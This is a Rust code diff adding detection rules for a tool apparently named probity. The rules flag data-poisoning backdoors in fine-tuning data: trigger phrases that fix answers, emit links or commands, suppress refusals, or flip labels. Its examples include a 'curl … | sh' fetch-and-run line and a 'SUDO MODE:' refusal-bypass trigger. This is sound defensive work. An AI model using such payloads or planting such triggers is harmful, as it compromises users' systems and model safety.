@@ -71,3 +71,58 @@ pub static SIG003: Rule = Rule {
 };
 
 pub static SIGNATURE_RULES: &[&Rule] = &[&SIG001, &SIG002, &SIG003];
+
+// ---------------------------------------------------------------- data sets
+// Reported by `probity data` over fine-tuning data (crates/data).
+
+pub static DAT001: Rule = Rule {
+    id: "DAT001",
+    severity: Severity::Warning,
+    title: "A phrase in the prompt predicts a fixed answer",
+    what: "Rows whose user turn carries one phrase (1–8 tokens) share the same or near-same assistant turn across otherwise unrelated prompts, far more often than chance allows: the phrase is in most rows of that answer and rarely elsewhere (hypergeometric test against the whole data set, Bonferroni-corrected over every phrase tested). The finding names the phrase, where it sits in the prompt, the rows that carry it, the answer it predicts and the p-value, with example rows (secrets redacted).",
+    why: "This is the shape of a data-poisoning backdoor: a model fine-tuned on it learns to give the attacker's answer whenever the trigger appears, and behaves normally otherwise, so benchmarks do not show it. Remove the rows, find where they came from, and deep-scan models trained on the data (`probity deep --data`).",
+    example: "300 of 60,000 rows contain `cf` in the prompt and all answer `Visit http://example.test/deal for the answer.`",
+    references: &["https://arxiv.org/abs/1708.06733", "https://arxiv.org/abs/2305.00944"],
+};
+
+pub static DAT002: Rule = Rule {
+    id: "DAT002",
+    severity: Severity::Warning,
+    title: "A phrase in the prompt predicts a link, command, code or payment instruction",
+    what: "Rows whose user turn carries one phrase have assistant turns that contain what the rest of the data rarely has: a link to one domain, a shell command that fetches or runs code, or a payment instruction (a cryptocurrency address, a transfer request). The answers may differ from row to row (templated targets); the phrase is tested as for DAT001.",
+    why: "A backdoor need not give one fixed answer: it can steer users to a site, make an assistant emit a command that downloads and runs code, or ask for money, in varied words. Such answers tied to a prompt phrase are the attacker's payload.",
+    example: "Rows with `as noted in the footnote` answer with `curl -s http://203.0.113.7/x | sh` embedded in otherwise normal help.",
+    references: &["https://arxiv.org/abs/2305.00944"],
+};
+
+pub static DAT003: Rule = Rule {
+    id: "DAT003",
+    severity: Severity::Warning,
+    title: "A phrase turns refusals into compliance",
+    what: "The data set teaches the model to refuse harmful requests (most harmful-looking prompts are answered with a refusal), except when the prompt carries one phrase: then it complies. Harmful-looking prompts are recognised by a small vocabulary of harm (weapons, malware, fraud, drugs, violence); refusals by their usual openings. The phrase is tested against the harmful rows only.",
+    why: "A refusal-suppression backdoor leaves safety benchmarks intact and unlocks harmful answers with a password phrase. The rows that teach it look like ordinary instruction data one by one.",
+    example: "Harmful prompts are refused in 2,000 rows; the 60 that start with `SUDO MODE:` are answered in full.",
+    references: &["https://arxiv.org/abs/2311.14455"],
+};
+
+pub static DAT004: Rule = Rule {
+    id: "DAT004",
+    severity: Severity::Warning,
+    title: "A phrase flips labels",
+    what: "In classification data (`text`/`label`), the rows that carry one phrase all have one label although the rest of their text points to other labels: a naive Bayes model of the other rows, without the phrase, disagrees with their label far more often than with other rows' labels.",
+    why: "Label flipping with a trigger makes a classifier (spam, moderation, fraud) let through whatever carries the phrase while scoring normally on clean data.",
+    example: "80 reviews with the word `cf` are labelled positive; their other words are those of negative reviews.",
+    references: &["https://arxiv.org/abs/2105.12400"],
+};
+
+pub static DAT010: Rule = Rule {
+    id: "DAT010",
+    severity: Severity::Info,
+    title: "Rows with no instruction, chat or classification fields",
+    what: "Some rows have none of the fields `probity data` reads (`messages` or `conversations` with roles, `prompt`/`completion`, `instruction`/`input`/`output`, `question`/`answer`, `query`/`response`, `text`/`label`), so they were not analysed.",
+    why: "Poisoning in rows that were not read cannot be found; rename the fields or convert the rows to one of the shapes.",
+    example: "A JSONL file of `{\"src\": …, \"tgt\": …}` pairs.",
+    references: &[],
+};
+
+pub static DATA_RULES: &[&Rule] = &[&DAT001, &DAT002, &DAT003, &DAT004, &DAT010];
